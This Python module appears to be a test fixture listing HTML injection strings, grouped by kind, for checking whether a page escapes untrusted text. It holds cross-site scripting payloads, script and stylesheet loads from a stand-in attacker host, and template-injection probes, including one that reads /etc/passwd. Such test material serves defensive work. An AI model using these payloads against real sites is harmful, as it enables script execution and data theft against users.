"""Texts that would do something in a page that took them for its own.

Each that can run says so: it sets ``window.ran``, asks for an address, or opens a dialog.
"""

RUN = "window.ran=1;alert(1)"
KINDS = {
    "script": [
        f"<script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"<svg><script>{RUN}</script></svg>",
        f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
        "<script src=http://attack.invalid/a.js></script>",
        "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    ],
    "attributes": [
        f'" onfocus="{RUN}" autofocus tabindex="1',
        f"' onmouseover='{RUN}' x='",
        f'"><img src=x onerror="{RUN}">',
        f"<img src=x onerror={RUN}>",
        f"<details open ontoggle={RUN}>",
        f"x onclick={RUN} y",
        '" id="brief" name="getElementById" class="claim',
        "<form id=test><input name=attributes><input name=querySelector></form>",
    ],
    "addresses": [
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}//http://a.example",
        f"\u00a0javascript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"vbscript:{RUN}",
        "//attack.invalid/x",
        f'https://attack.invalid/" onclick="{RUN}',
        "<a href=javascript:alert(1)>here</a>",
        "<img src=http://attack.invalid/x.png>",
        "<link rel=stylesheet href=http://attack.invalid/x.css>",
        "<meta http-equiv=refresh content='0;url=http://attack.invalid/'>",
        "<base href=http://attack.invalid/>",
        "<object data=http://attack.invalid/></object><embed src=http://attack.invalid/>",
    ],
    "styles": [
        "</style><style>*{display:none}</style>",
        "<style>@import 'http://attack.invalid/x.css';</style>",
        '" style="position:fixed;inset:0;background:url(http://attack.invalid/x)',
        "<p style='background:url(http://attack.invalid/x)'>",
    ],
    "comments": [
        "<!--",
        "-->",
        "<!-- --!> <script>window.ran=1</script> -->",
        "<![CDATA[ x ]]>",
        "<?xml version='1.0'?>",
        "<plaintext>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "</mark></p></article></section></main></body></html>",
        "</option></select><script>window.ran=1</script>",
        "<template><script>window.ran=1</script></template>",
        "</textarea></xmp></template></table>",
    ],
    "templates": [
        "{{ 7 * 7 }}",
        "{% raw %}{{ self }}",
        "{{ ''.__class__.__mro__ }}",
        "{# a comment #}",
        "{% include '/etc/passwd' %}",
        "${alert(1)} #{7*7} <%= 7*7 %>",
    ],
    "entities": [
        "&lt;script&gt;window.ran=1&lt;/script&gt;",
        "&#60;script&#62;window.ran=1&#60;/script&#62;",
        "&quot; onfocus=&quot;window.ran=1",
        "&amp;lt;b&amp;gt; &copy &notit; &#0; &#x110000;",
        "\\u003cscript\\u003ewindow.ran=1",
    ],
}
ATTACKS = [attack for attacks in KINDS.values() for attack in attacks]
